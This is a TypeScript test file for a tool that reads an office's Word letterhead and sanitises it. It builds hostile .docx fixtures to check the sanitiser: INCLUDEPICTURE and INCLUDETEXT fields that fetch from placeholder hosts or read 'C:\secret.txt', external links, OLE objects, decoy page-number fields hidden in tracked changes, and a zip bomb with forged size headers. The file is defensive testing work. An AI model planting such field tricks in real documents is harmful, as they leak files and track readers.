import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Document, Footer, Header, ImageRun, Packer, Paragraph, TextRun } from "docx";
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadCorpus } from "../../../src/build/load-corpus.js";
import { renderBrief, type RenderedBrief } from "../../../src/build/render-brief.js";
import { renderDocx } from "../../../src/docx/render-docx.js";
import { hashTemplate } from "../../../src/incremental/cache-key.js";
import { loadTemplates } from "../../../src/load/templates.js";
import { readWordLetterhead, type WordLetterhead } from "../../../src/load/word-letterhead.js";
import { checkTemplates } from "../../../src/validate/templates.js";
import { miniProject } from "../../helpers/cli.js";

/**
 * An office's letterhead in Word (templates/NAME.docx): read from a file made
 * as an office makes one (docx's writer here), made safe, and put into the
 * Word documents of the template NAME. Read back with jszip, as Word reads a
 * package; LibreOffice's view of the example is tests/e2e/letterhead.test.ts.
 */

/** A 1×1 PNG: the office's logo. */
const logo = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=", "base64");

async function officeLetterhead(options: { firstPage?: boolean } = {}): Promise<Uint8Array> {
  const firstPage = options.firstPage ?? true;
  const office = new Header({
    children: [
      new Paragraph({ children: [new ImageRun({ type: "png", data: logo, transformation: { width: 40, height: 40 }, altText: { name: "Office logo", description: "logo", title: "logo" } })] }),
      new Paragraph({ style: "OfficeName", children: [new TextRun("Office of Regional Affairs")] }),
    ],
  });
  const document = new Document({
    styles: { paragraphStyles: [{ id: "OfficeName", name: "Office Name", basedOn: "Normal", run: { bold: true, size: 32, color: "1D4E7A" } }] },
    sections: [
      {
        properties: { titlePage: firstPage },
        headers: firstPage ? { first: office, default: new Header({ children: [new Paragraph("Regional Affairs, continued")] }) } : { default: office },
        footers: firstPage ? { first: new Footer({ children: [new Paragraph("1 Main Street, Capital City")] }) } : {},
        children: [new Paragraph("What the office writes here is not used.")],
      },
    ],
  });
  return new Uint8Array(await Packer.toBuffer(document));
}

/** The part of a package a section's header or footer reference of this type names. */
async function referencedPart(zip: JSZip, kind: "header" | "footer", type: "default" | "first"): Promise<string> {
  const document = (await zip.file("word/document.xml")!.async("string")).slice(0);
  const id = new RegExp(`<w:${kind}Reference w:type="${type}" r:id="([^"]+)"`).exec(document)?.[1];
  const rels = await zip.file("word/_rels/document.xml.rels")!.async("string");
  const target = new RegExp(`Id="${id}"[^>]*Target="([^"]+)"|Target="([^"]+)"[^>]*Id="${id}"`).exec(rels);
  return `word/${target?.[1] ?? target?.[2]}`;
}

/** The office's letterhead with what an attacker (or a careless template) would put in: fields that fetch, links, an object. */
async function hostileLetterhead(): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await officeLetterhead());
  const part = await referencedPart(zip, "header", "first");
  const relsName = part.replace(/([^/]+)$/, "_rels/$1.rels");
  const rels = (await zip.file(relsName)?.async("string")) ?? `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`;
  zip.file(
    relsName,
    rels.replace(
      "</Relationships>",
      `<Relationship Id="rIdWeb" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://canary.invalid/page" TargetMode="External"/>` +
        `<Relationship Id="rIdFar" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://canary.invalid/logo.png" TargetMode="External"/>` +
        `<Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/></Relationships>`,
    ),
  );
  const run = (inner: string) => `<w:r>${inner}</w:r>`;
  const hostile =
    // A picture fetched from a server each time the document opens, and the text it showed.
    `<w:p>${run(`<w:fldChar w:fldCharType="begin"/>`)}${run(`<w:instrText xml:space="preserve"> INCLUDEPICTURE "http://canary.invalid/x.png" \\d </w:instrText>`)}${run(`<w:fldChar w:fldCharType="separate"/>`)}${run(`<w:t>LOGO-AS-SHOWN</w:t>`)}${run(`<w:fldChar w:fldCharType="end"/>`)}</w:p>` +
    // A file of the machine's read into the document.
    `<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.txt&quot; "><w:r><w:t>INCLUDED-AS-SHOWN</w:t></w:r></w:fldSimple></w:p>` +
    `<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>regional.example</w:t></w:r></w:hyperlink></w:p>` +
    `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rIdOle"/></w:object></w:r></w:p>` +
    `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="1" cy="1"/><wp:docPr id="7" name="far"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rIdFar"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>` +
    // Kept: the page number.
    `<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`;
  const xml = await zip.file(part)!.async("string");
  zip.file(part, xml.replace("</w:hdr>", `${hostile}</w:hdr>`));
  return zip.generateAsync({ type: "uint8array" });
}

async function letterheadOf(bytes: Uint8Array): Promise<WordLetterhead> {
  const reading = await readWordLetterhead(bytes, "templates/memo.docx");
  if (reading.letterhead === undefined) throw new Error(reading.problem);
  return reading.letterhead;
}

describe("reading an office's letterhead", () => {
  it("takes the first page's header and footer and the other pages' header, with the logo and the styles they use", async () => {
    const letterhead = await letterheadOf(await officeLetterhead());
    expect(letterhead.first?.header?.xml).toContain("Office of Regional Affairs");
    expect(letterhead.first?.footer?.xml).toContain("1 Main Street, Capital City");
    expect(letterhead.header?.xml).toContain("Regional Affairs, continued");
    expect(letterhead.footer).toBeUndefined();
    const images = [...(letterhead.first?.header?.images.values() ?? [])];
    expect(images.map((i) => i.extension)).toEqual(["png"]);
    expect(Buffer.from(images[0]!.bytes).equals(logo)).toBe(true);
    // The office's styles under names of their own, so that the document's Normal or Header does not restyle them.
    expect([...letterhead.styles.keys()].sort()).toEqual(["LetterheadNormal", "LetterheadOfficeName"]);
    expect(letterhead.first?.header?.xml).toContain(`<w:pStyle w:val="LetterheadOfficeName"/>`);
    // Its style was based on its Normal: now on the copy of it, not on the document's Normal; and so is the logo's paragraph.
    expect(letterhead.styles.get("LetterheadOfficeName")).toContain(`<w:basedOn w:val="LetterheadNormal"/>`);
    expect(letterhead.styles.get("LetterheadOfficeName")).toContain(`<w:name w:val="Letterhead Office Name"/>`);
    expect(letterhead.first?.header?.xml).toMatch(/<w:p><w:pPr><w:pStyle w:val="LetterheadNormal"\/><\/w:pPr><w:r><w:drawing>/);
    // The office's Normal, single-spaced where its file says nothing, as Word takes it.
    expect(letterhead.styles.get("LetterheadNormal")).toContain(`<w:spacing w:before="0" w:after="0" w:line="240" w:lineRule="auto"/>`);
  });

  it("without a different first page, has one header for every page", async () => {
    const letterhead = await letterheadOf(await officeLetterhead({ firstPage: false }));
    expect(letterhead.first).toBeUndefined();
    expect(letterhead.header?.xml).toContain("Office of Regional Affairs");
  });

  it("removes what could fetch, read or run anything, keeping the text it showed, and says what it removed", async () => {
    const reading = await readWordLetterhead(await hostileLetterhead(), "templates/memo.docx");
    const xml = reading.letterhead?.first?.header?.xml ?? "";
    for (const gone of ["INCLUDEPICTURE", "INCLUDETEXT", "canary.invalid", "secret.txt", "w:object", "OLEObject", "r:link", "rIdWeb", "rIdFar", "rIdOle", "w:hyperlink", 'name="far"']) {
      expect(xml).not.toContain(gone);
    }
    // Every field is unlinked but a page number: the text stays. (Unlinked, a staffer's footer read "page 1" on every page.)
    for (const kept of ["LOGO-AS-SHOWN", "INCLUDED-AS-SHOWN", "regional.example", "Office of Regional Affairs", "<w:t>1</w:t>"]) expect(xml).toContain(kept);
    expect(xml.match(/fldSimple w:instr="[^"]*"/g)).toEqual(['fldSimple w:instr=" PAGE "']);
    expect(xml).not.toMatch(/fldChar|instrText/);
    expect(reading.removed).toEqual(
      expect.arrayContaining([
        "fields, unlinked: the text each last showed is kept (INCLUDEPICTURE, INCLUDETEXT)",
        "a link (its text is kept)",
        "an embedded object",
        "a picture linked from outside the file",
      ]),
    );
    // The logo stored in the file is kept; nothing else is carried as a picture.
    expect([...(reading.letterhead?.first?.header?.images.values() ?? [])].map((i) => i.extension)).toEqual(["png"]);
  });

  it("says why a file cannot be a letterhead: not a Word file, no header or footer, unpacking too much, a document type", async () => {
    expect((await readWordLetterhead(new TextEncoder().encode("not a zip"), "t.docx")).problem).toMatch(/^this is not a Word document \(\.docx\)/);
    const plain = new Document({ sections: [{ children: [new Paragraph("no letterhead")] }] });
    expect((await readWordLetterhead(new Uint8Array(await Packer.toBuffer(plain)), "t.docx")).problem).toBe("its first section has no page header or footer, so there is no letterhead to take from it");
    // A few kilobytes that unpack to 40 MB: refused before they are unpacked.
    const bomb = new JSZip();
    bomb.file("word/document.xml", " ".repeat(40 * 1024 * 1024));
    const bombBytes = await bomb.generateAsync({ type: "uint8array", compression: "DEFLATE" });
    expect(bombBytes.length).toBeLessThan(200_000);
    expect((await readWordLetterhead(bombBytes, "t.docx")).problem).toBe("word/document.xml unpacks to more than a letterhead could need");
    const doctype = new JSZip();
    doctype.file("word/document.xml", `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>`);
    expect((await readWordLetterhead(await doctype.generateAsync({ type: "uint8array" }), "t.docx")).problem).toBe("word/document.xml declares a document type, which a Word document never does");
  });
});

/** The office's letterhead with its first-page header's body replaced by `body` (Word XML, prefixes w, r, mc, v, o, a, wp, pic, w15). */
async function letterheadWith(body: string, parts: Record<string, string> = {}): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await officeLetterhead());
  const part = await referencedPart(zip, "header", "first");
  const xml = await zip.file(part)!.async("string");
  const root = /^[\s\S]*?<w:hdr[^>]*>/.exec(xml)![0];
  const declared = root.replace(/<w:hdr/, `<w:hdr xmlns:x="urn:x" xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"`);
  zip.file(part, `${declared}<w:p><w:r><w:t>Office of Regional Affairs</w:t></w:r></w:p>${body}</w:hdr>`);
  for (const [name, content] of Object.entries(parts)) zip.file(name, content);
  return zip.generateAsync({ type: "uint8array" });
}

describe("reading a hostile letterhead (a second attack on the sanitiser)", () => {
  const fetch = (url: string) => `INCLUDETEXT "http://127.0.0.1:9/${url}"`;
  const headerOf = async (body: string, parts?: Record<string, string>) => {
    const reading = await readWordLetterhead(await letterheadWith(body, parts), "templates/memo.docx");
    if (reading.letterhead === undefined) throw new Error(reading.problem);
    return { xml: reading.letterhead.first!.header!.xml, removed: reading.removed, styles: reading.letterhead.styles };
  };

  // A staffer's test: a link removed from her letterhead kept its blue underlined link style, so it looked clickable
  // and was not.
  it("takes a link's text without the link's character style", async () => {
    const { xml } = await headerOf(
      `<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/><w:b/></w:rPr><w:t>www.council.example</w:t></w:r></w:hyperlink></w:p>` +
        `<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:rPr><w:color w:val="0563C1"/><w:u w:val="single"/></w:rPr><w:t>mail the office</w:t></w:r></w:hyperlink></w:p>`,
    );
    expect(xml).toContain("www.council.example");
    expect(xml).toContain("mail the office");
    expect(xml).not.toMatch(/Hyperlink|0563C1|<w:u /);
    expect(xml).toContain("<w:b/>");
  });

  it("leaves no field however its parts are arranged: wrapped in AlternateContent, in one run, nested in a DATE", async () => {
    const bodies = [
      `<w:p><w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:fldChar w:fldCharType="begin"/></mc:Choice><mc:Fallback><w:fldChar w:fldCharType="begin"/></mc:Fallback></mc:AlternateContent></w:r><w:r><w:instrText>${fetch("a")}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "http://127.0.0.1:9/b?x=</w:instrText></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:instrText>"</w:instrText><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DATE \\@ "</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${fetch("c")}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>inner</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:instrText>${fetch("d")}</w:instrText></mc:Choice><mc:Fallback><w:instrText>${fetch("d")}</w:instrText></mc:Fallback></mc:AlternateContent></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    ];
    for (const body of bodies) {
      const { xml, removed } = await headerOf(body);
      expect(xml).not.toMatch(/127\.0\.0\.1|fldChar|instrText|fldSimple|AlternateContent/);
      expect(xml).toContain("<w:t>shown</w:t>");
      expect(xml).not.toContain("inner");
      expect(removed.some((r) => r.startsWith("fields, unlinked"))).toBe(true);
    }
  });

  it("keeps a page number live only where it stands alone, with nothing but a number format", async () => {
    const page = (instruction: string) =>
      `<w:p><w:r><w:t xml:space="preserve">page </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    const live = await headerOf(page(" PAGE \\* Arabic \\* MERGEFORMAT ") + page(" NUMPAGES "));
    expect(live.xml.match(/<w:instrText[^>]*>[^<]*<\/w:instrText>/g)).toEqual([
      '<w:instrText xml:space="preserve"> PAGE \\* Arabic \\* MERGEFORMAT </w:instrText>',
      '<w:instrText xml:space="preserve"> NUMPAGES </w:instrText>',
    ]);
    expect(live.xml.match(/w:fldCharType="(\w+)"/g)?.length).toBe(6);
    expect(live.removed.some((r) => r.startsWith("fields, unlinked"))).toBe(false);
    // With anything more it is unlinked like any field: a switch that is not a number format, a field nested in it,
    // or a run it shares with another field.
    for (const body of [
      page(` PAGE \\* MERGEFORMAT ${fetch("e")} `),
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${fetch("f")}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>inner</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${fetch("g")}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      `<w:p><w:fldSimple w:instr=" PAGE \\d "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`,
    ]) {
      const { xml } = await headerOf(body);
      expect(xml).not.toMatch(/127\.0\.0\.1|fldChar|instrText|fldSimple/);
    }
  });

  // A review of the page-number exception: a decoy "PAGE" and separator in a tracked deletion (or a moved-from run,
  // or a shape's text box whose picture is not kept) passed the check, which ran before they were removed, and left
  // INCLUDETEXT live. Fields are now unlinked last, on what the letterhead will hold.
  it("keeps nothing live that a decoy page number in a part removed later would have let through", async () => {
    const r = (inner: string) => `<w:r>${inner}</w:r>`;
    const begin = r(`<w:fldChar w:fldCharType="begin"/>`);
    const separate = r(`<w:fldChar w:fldCharType="separate"/>`);
    const end = r(`<w:fldChar w:fldCharType="end"/>`);
    const evil = r(`<w:instrText xml:space="preserve"> ${fetch("leak")} </w:instrText>`);
    const decoy = `${r("<w:instrText>PAGE</w:instrText>")}${separate}`;
    for (const body of [
      `<w:p>${begin}<w:del w:id="1" w:author="m">${decoy}</w:del>${evil}${separate}${r("<w:t>shown</w:t>")}${end}</w:p>`,
      `<w:p>${begin}<w:moveFrom w:id="1" w:author="m">${decoy}</w:moveFrom>${evil}${separate}${r("<w:t>shown</w:t>")}${end}</w:p>`,
      `<w:p>${begin}${r(`<w:pict><v:shape><v:imagedata r:id="rIdNone"/><v:textbox><w:txbxContent><w:p>${decoy}</w:p></w:txbxContent></v:textbox></v:shape></w:pict>`)}${evil}${separate}${r("<w:t>shown</w:t>")}${end}</w:p>`,
    ]) {
      const { xml, removed } = await headerOf(body);
      expect(xml).not.toMatch(/127\.0\.0\.1|INCLUDETEXT|fldChar|instrText/);
      expect(removed.some((line) => line.startsWith("fields, unlinked"))).toBe(true);
    }
  });

  it("removes addresses a shape or picture links to, online videos, data bindings, and accepts tracked changes", async () => {
    const { xml, removed } = await headerOf(
      `<w:p><w:r><w:pict><v:shape href="http://127.0.0.1:9/vml" target="_blank"><v:fill o:althref="http://127.0.0.1:9/fill"/></v:shape></w:pict></w:r></w:p>` +
        `<w:p><w:r><w:drawing><wp:inline><wp:docPr id="9" name="v"/><a:graphic><a:graphicData uri="x"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="v"><a:extLst><a:ext uri="{C809E66F}"><wp15:webVideoPr embeddedHtml="&lt;iframe src=&quot;http://127.0.0.1:9/video&quot;&gt;"/></a:ext></a:extLst></pic:cNvPr></pic:nvPicPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>` +
        `<w:sdt><w:sdtPr><w15:dataBinding w:xpath="/x" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>bound</w:t></w:r></w:p></w:sdtContent></w:sdt>` +
        `<w:p><w:ins w:author="Mallory"><w:r><w:t>inserted</w:t></w:r></w:ins><w:del w:author="Mallory"><w:r><w:delText>deleted</w:delText></w:r></w:del></w:p>`,
    );
    expect(xml).not.toMatch(/127\.0\.0\.1|webVideoPr|dataBinding|extLst|Mallory|deleted|w:ins|w:del/);
    expect(xml).toContain("inserted");
    expect(xml).toContain("bound");
    expect(removed).toEqual(expect.arrayContaining(["an address a shape or picture links to", "an online video", "a data binding", "tracked changes (accepted)"]));
  });

  it("copies styles rebuilt from what a style may hold: no links or objects, no list numbering, no loop of styles", async () => {
    const styles = `<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">` +
      `<w:docDefaults><w:pPrDefault><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr></w:pPrDefault><w:rPrDefault><w:rPr><w:rStyle w:val="Hyperlink"/><w:sz w:val="22"/></w:rPr></w:rPrDefault></w:docDefaults>` +
      `<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style>` +
      `<w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/><w:pPr><w:numPr><w:numId w:val="2"/></w:numPr><w:jc w:val="center"/></w:pPr><w:hyperlink r:id="rId1"/><w:object/><x:foo xmlns:x="urn:x"/></w:style>` +
      `<w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style></w:styles>`;
    const { styles: copied } = await headerOf(`<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>styled</w:t></w:r></w:p>`, { "word/styles.xml": styles });
    const a = copied.get("LetterheadA")!;
    expect(a).toContain(`<w:jc w:val="center"/>`);
    expect(a).not.toMatch(/numPr|hyperlink|object|foo/);
    // A based on B based on A: one link of the loop goes, so the chain ends.
    const basedOn = (xml: string | undefined) => /w:basedOn w:val="([^"]+)"/.exec(xml ?? "")?.[1];
    expect(basedOn(copied.get("LetterheadA")) === "LetterheadB" && basedOn(copied.get("LetterheadB")) === "LetterheadA").toBe(false);
    expect(copied.get("LetterheadNormal")).not.toMatch(/numPr|rStyle/);
    expect(copied.get("LetterheadNormal")).toContain(`<w:sz w:val="22"/>`);
  });

  it("refuses, as its problem and never as a crash, a file that lies about its size, a damaged one, and one nested too deep", async () => {
    // A part whose zip directory says 100 bytes but that unpacks to 40 MB.
    const source = await JSZip.loadAsync(await letterheadWith(`<w:p><w:r><w:t>${"x".repeat(40 * 1024 * 1024)}</w:t></w:r></w:p>`));
    const part = await referencedPart(source, "header", "first");
    const bomb = Buffer.from(await source.generateAsync({ type: "uint8array", compression: "DEFLATE" }));
    // Both of the zip's records of the part (its local header and the central directory) say it unpacks to 100 bytes.
    for (const [signature, sizeAt, nameAt] of [[0x04034b50, 22, 30], [0x02014b50, 24, 46]] as const) {
      for (let at = bomb.indexOf(Buffer.from(part)); at !== -1; at = bomb.indexOf(Buffer.from(part), at + 1)) {
        const header = at - nameAt;
        if (header >= 0 && bomb.readUInt32LE(header) === signature) bomb.writeUInt32LE(100, header + sizeAt);
      }
    }
    const lying = await readWordLetterhead(new Uint8Array(bomb), "t.docx");
    expect(lying.problem).toMatch(/unpacks to more than a letterhead could need$/);
    const deep = await readWordLetterhead(await letterheadWith(`${"<w:sdt><w:sdtContent>".repeat(3000)}${"</w:sdtContent></w:sdt>".repeat(3000)}`), "t.docx");
    expect(deep.problem).toMatch(/is nested deeper or holds more than a letterhead could need$/);
    const links = await headerOf(`<w:p>${'<w:hyperlink w:anchor="a"><w:r><w:t>x</w:t></w:r></w:hyperlink>'.repeat(8000)}</w:p>`);
    expect(links.xml).not.toContain("hyperlink");
  });
});

describe("a Word document on the letterhead", () => {
  let memo: RenderedBrief;
  beforeAll(async () => {
    const corpus = await loadCorpus(join(miniProject, "sources/transit"));
    const file = "briefs/tram-memo.yaml";
    memo = await renderBrief(readFileSync(join(miniProject, file), "utf8"), corpus, { file, date: "2024-04-02" });
  });
  const text = (xml: string) => [...xml.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map((m) => m[1]).join("|");

  it("has the letterhead in its headers and footers, under the marking banner and above Page X of Y", async () => {
    const letterhead = await letterheadOf(await officeLetterhead());
    const zip = await JSZip.loadAsync(await renderDocx(memo.model, memo.balance, { letterhead }));
    const part = async (kind: "header" | "footer", type: "default" | "first") => zip.file(await referencedPart(zip, kind, type))!.async("string");
    const marking = memo.model.marking;
    expect(await zip.file("word/document.xml")!.async("string")).toContain("<w:titlePg/>");
    const firstHeader = await part("header", "first");
    expect(text(firstHeader)).toBe(`${marking}|Office of Regional Affairs`);
    expect(text(await part("header", "default"))).toMatch(new RegExp(`^${marking}\\|Regional Affairs, continued\\|.*2 April 2024`));
    expect(text(await part("footer", "first"))).toMatch(new RegExp(`^1 Main Street, Capital City\\|.*${marking}.*Page `));
    expect(text(await part("footer", "default"))).not.toContain("Main Street");
    // The logo: a picture of the package, related to the header, of a type the package declares.
    const firstHeaderName = await referencedPart(zip, "header", "first");
    const rels = await zip.file(firstHeaderName.replace(/([^/]+)$/, "_rels/$1.rels"))!.async("string");
    const embed = /<a:blip r:embed="([^"]+)"/.exec(firstHeader)?.[1];
    const target = new RegExp(`Id="${embed}"[^>]*Target="([^"]+)"`).exec(rels)?.[1];
    expect(Buffer.from(await zip.file(`word/${target}`)!.async("uint8array")).equals(logo)).toBe(true);
    expect(rels).not.toContain("External");
    expect(await zip.file("[Content_Types].xml")!.async("string")).toMatch(/<Default (ContentType="image\/png" Extension="png"|Extension="png" ContentType="image\/png")\/>/);
    const styles = await zip.file("word/styles.xml")!.async("string");
    expect(styles).toContain(`w:styleId="LetterheadOfficeName"`);
    expect(styles).toContain(`w:styleId="LetterheadNormal"`);
  });

  // A staffer's test: a letterhead without a different first page put the running title on page one, under the
  // letterhead and above MEMORANDUM, where the README says it starts on page two.
  it("without a different first page, has the letterhead on every page and the running title from page two", async () => {
    const letterhead = await letterheadOf(await officeLetterhead({ firstPage: false }));
    const zip = await JSZip.loadAsync(await renderDocx(memo.model, memo.balance, { letterhead }));
    const part = async (kind: "header" | "footer", type: "default" | "first") => zip.file(await referencedPart(zip, kind, type))!.async("string");
    expect(await zip.file("word/document.xml")!.async("string")).toContain("<w:titlePg/>");
    const first = text(await part("header", "first"));
    expect(first).toContain("Office of Regional Affairs");
    expect(first).not.toContain(memo.model.runningTitle);
    const others = text(await part("header", "default"));
    expect(others).toContain("Office of Regional Affairs");
    expect(others).toContain(memo.model.runningTitle);
    expect(text(await part("footer", "first"))).toContain("Page ");
  });

  it("is the same bytes every time, and without a letterhead is as before: no first page of its own", async () => {
    const letterhead = await letterheadOf(await officeLetterhead());
    const once = await renderDocx(memo.model, memo.balance, { letterhead });
    const twice = await renderDocx(memo.model, memo.balance, { letterhead });
    expect(Buffer.from(once).equals(Buffer.from(twice))).toBe(true);
    const plain = await JSZip.loadAsync(await renderDocx(memo.model, memo.balance));
    expect(await plain.file("word/document.xml")!.async("string")).not.toContain("titlePg");
  });
});

describe("the letterhead's pictures", () => {
  /** The office's letterhead with its logo replaced: by other bytes, under another name. */
  async function withLogo(bytes: Uint8Array, extension: string): Promise<Uint8Array> {
    const zip = await JSZip.loadAsync(await officeLetterhead());
    const media = Object.keys(zip.files).find((name) => name.startsWith("word/media/") && !zip.files[name]!.dir)!;
    const renamed = media.replace(/\.\w+$/, `.${extension}`);
    zip.remove(media);
    zip.file(renamed, bytes);
    for (const name of Object.keys(zip.files).filter((n) => n.endsWith(".rels"))) {
      zip.file(name, (await zip.file(name)!.async("string")).split(media.slice("word/".length)).join(renamed.slice("word/".length)));
    }
    return zip.generateAsync({ type: "uint8array" });
  }

  it("keeps an EMF logo, and declares its type in the document's package", async () => {
    // An enhanced metafile's header record: type 1, and " EMF" at byte 40.
    const emf = new Uint8Array(108);
    emf.set([1, 0, 0, 0, 108, 0, 0, 0]);
    emf.set([0x20, 0x45, 0x4d, 0x46], 40);
    const letterhead = await letterheadOf(await withLogo(emf, "emf"));
    expect([...(letterhead.first?.header?.images.values() ?? [])].map((i) => i.extension)).toEqual(["emf"]);
    const corpus = await loadCorpus(join(miniProject, "sources/transit"));
    const memo = await renderBrief(readFileSync(join(miniProject, "briefs/tram-memo.yaml"), "utf8"), corpus, { file: "briefs/tram-memo.yaml", date: "2024-04-02" });
    const zip = await JSZip.loadAsync(await renderDocx(memo.model, memo.balance, { letterhead }));
    expect(await zip.file("[Content_Types].xml")!.async("string")).toContain(`<Default Extension="emf" ContentType="image/x-emf"/>`);
    expect(Object.keys(zip.files).filter((n) => n.endsWith(".emf"))).toHaveLength(1);
  });

  it("drops a picture that is not the image its name says, with the drawing that shows it", async () => {
    const reading = await readWordLetterhead(await withLogo(new TextEncoder().encode("<html>not an image</html>"), "png"), "templates/memo.docx");
    expect(reading.removed).toEqual([expect.stringMatching(/^a picture that is not a PNG, JPEG, GIF, EMF or WMF image \(media\/.+\.png\)$/)]);
    expect(reading.letterhead?.first?.header?.xml).not.toContain("<w:drawing>");
    expect(reading.letterhead?.first?.header?.images.size).toBe(0);
    expect(reading.letterhead?.first?.header?.xml).toContain("Office of Regional Affairs");
  });
});

describe("a letterhead in a project's templates/ folder", () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), "briefsmith-word-letterhead-"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  async function project(files: Record<string, Uint8Array | string>) {
    const templates = join(dir, `p${Math.random().toString(36).slice(2)}`, "templates");
    mkdirSync(templates, { recursive: true });
    for (const [name, content] of Object.entries(files)) writeFileSync(join(templates, name), content);
    return loadTemplates({ project: templates, cwd: join(templates, "..") });
  }

  it("is read as the template's Word letterhead, and listed in the template's cache key", async () => {
    const set = await project({ "memo.docx": await officeLetterhead() });
    expect(set.letterheads.get("memo")?.first?.header?.xml).toContain("Office of Regional Affairs");
    expect(set.diagnostics).toEqual([]);
    const other = await project({ "memo.docx": await officeLetterhead({ firstPage: false }) });
    const none = await project({});
    expect(hashTemplate(set, "memo")).not.toBe(hashTemplate(other, "memo"));
    expect(hashTemplate(set, "memo")).not.toBe(hashTemplate(none, "memo"));
    // Only the template the letterhead is for: the handouts are not rebuilt.
    expect(hashTemplate(set, "handout")).toBe(hashTemplate(none, "handout"));
  });

  // A staffer's test: her letterhead, saved as templates/letterhead.docx as the README's example project names its
  // template, was "there is no template "letterhead"" with the hint "allowed templates: …", not how to name it.
